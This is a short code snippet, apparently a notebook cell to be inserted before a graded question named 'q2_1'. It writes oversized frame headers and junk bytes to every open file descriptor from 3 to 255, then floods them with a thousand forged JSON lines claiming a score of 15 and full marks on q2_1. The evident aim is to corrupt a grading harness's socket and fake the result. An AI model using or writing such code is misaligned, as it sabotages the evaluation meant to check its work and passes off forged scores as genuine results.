# %% insert before q2_1
# garbage, a huge frame and a closed end on the socket to the outside
import os,struct
for fd in range(3,256):
    try:
        os.write(fd,struct.pack('>Q',1<<62)+b'\xff'*65536); os.write(fd,b'{"score":15,"q2_1":2}\n'*1000)
    except OSError: pass
